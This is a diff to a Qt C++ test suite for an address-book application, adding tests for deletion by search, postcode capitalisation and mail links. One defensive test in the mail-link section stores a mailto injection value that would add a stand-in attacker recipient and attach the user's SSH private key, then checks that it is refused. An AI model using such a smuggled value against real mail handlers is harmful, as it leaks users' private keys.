@@ -110,6 +110,7 @@ private slots:
     void gridLayoutPerFilter();
     void filterAndOrderAreRemembered();
     void searchSelectsAsTyped();
+    void deleteTakesTheContactSearchedFor();
     void sharedKeysEditAndDeleteTheChosenRecord();
     void truncatedFileKeepsItsTail();
     void saveRefusals_data();
@@ -117,6 +118,7 @@ private slots:
     void savedBirthdayRoundTrip();
     void titleCompletion_data();
     void titleCompletion();
+    void postcodeTypedInCapitals_data();
     void postcodeTypedInCapitals();
     void mailToContact();
     void birthdayToOccasionList();
@@ -220,6 +222,27 @@ void TestAddressForms::searchSelectsAsTyped() {
     QCOMPARE(desk.page.selectedRow(), 11);
 }
 
+// Typing a company's name and pressing Delete asks about that company and
+// deletes it, also where punctuation sorts before the letters.
+void TestAddressForms::deleteTakesTheContactSearchedFor() {
+    Desk desk;
+    QStringList lines;
+    for (const auto &[key, company] :
+         {std::pair{u"301"_s, u"_Old Supplier"_s}, std::pair{u"302"_s, u"Bravo Ltd"_s}}) {
+        AddressRecord record;
+        record[0] = key;
+        record[1] = u"W"_s;
+        record[2] = company;
+        lines += QStringList(record.begin(), record.end());
+    }
+    WriteRecordFile(desk.services.path(AddressFileName), lines);
+    desk.show();
+    QTest::keyClicks(child(&desk.page, u"txtLocate"_s), u"Bravo"_s);
+    click(&desk.page, u"cmdNameDelete"_s);
+    QCOMPARE(desk.messages(), QStringList{u"Are You Sure You Want To Delete 'Bravo Ltd'?"_s});
+    QCOMPARE(desk.names(), QStringList{u"_Old Supplier//"_s});
+}
+
 // An older file with two records under key 301: each is listed, Edit opens
 // the one selected, and neither an edit nor a delete loses the other.
 void TestAddressForms::sharedKeysEditAndDeleteTheChosenRecord() {
@@ -253,7 +276,7 @@ void TestAddressForms::sharedKeysEditAndDeleteTheChosenRecord() {
 
     QTest::keyClicks(child(&desk.page, u"txtLocate"_s), u"al"_s);
     click(&desk.page, u"cmdNameDelete"_s);
-    QCOMPARE(desk.messages().last(), AddressText::DeleteQuestion);
+    QCOMPARE(desk.messages().last(), u"Are You Sure You Want To Delete 'Alpha, X'?"_s);
     QCOMPARE(desk.names(), QStringList{u"/Beta, Edited/"_s});
 }
 
@@ -383,10 +406,30 @@ void TestAddressForms::titleCompletion() {
     QCOMPARE(title->text(), left);
 }
 
+void TestAddressForms::postcodeTypedInCapitals_data() {
+    QTest::addColumn<QString>("typed");
+    QTest::addColumn<QString>("shown");
+    QTest::newRow("plain") << u"ls1 4ab"_s << u"LS1 4AB"_s;
+    // µ and ß have no capital in the code page: they stay as typed.
+    QTest::newRow("code page letters")
+        << u"\u00e9t \u00ff \u00b5\u00df"_s << u"\u00c9T \u0178 \u00b5\u00df"_s;
+}
+
+// What the capitals make of typed letters can always be saved.
 void TestAddressForms::postcodeTypedInCapitals() {
+    QFETCH(QString, typed);
+    QFETCH(QString, shown);
     Editor editor;
-    QTest::keyClicks(editor[u"txtPostcode"_s], u"ls1 4ab"_s);
-    QCOMPARE(editor[u"txtPostcode"_s]->text(), u"LS1 4AB"_s);
+    WriteBytes(editor.services.path(NextKeyFileName), "300\r\n");
+    // Key by key as a keyboard sends them (keyClicks takes only ASCII).
+    for (const QChar c : typed)
+        QTest::sendKeyEvent(QTest::Click, editor[u"txtPostcode"_s], Qt::Key_unknown, QString(c),
+                            Qt::NoModifier);
+    QCOMPARE(editor[u"txtPostcode"_s]->text(), shown);
+    editor[u"txtSurname"_s]->setText(u"Adams"_s);
+    click(&editor.form, u"cmdUpdate"_s);
+    QCOMPARE(editor.services.prompter.messages.size(), 0);
+    QVERIFY(editor.form.RecordSaved());
 }
 
 void TestAddressForms::mailToContact() {
@@ -404,6 +447,16 @@ void TestAddressForms::mailToContact() {
     QCOMPARE(editor.services.prompter.messages.size(), 1);
     QCOMPARE(editor.services.prompter.messages[0].text, qm::MailFailedMessage);
     QCOMPARE(editor.services.prompter.messages[0].kind, int(MessageKind::Error));
+
+    // A stored address that would add recipients or attach the user's files
+    // never reaches the desktop.
+    editor.services.shell.answer = true;
+    email->setText(u"?to=victim@evil.example&attach=~/.ssh/id_rsa"_s);
+    QTest::mouseDClick(email, Qt::LeftButton);
+    QCOMPARE(editor.services.shell.opened.size(), 2);
+    QCOMPARE(editor.services.prompter.messages.size(), 2);
+    QCOMPARE(editor.services.prompter.messages[1].text, qm::NotAMailboxMessage);
+    QCOMPARE(editor.services.prompter.messages[1].kind, int(MessageKind::Warning));
 }
 
 // Missing entries are refused with nothing written; the birthday is added
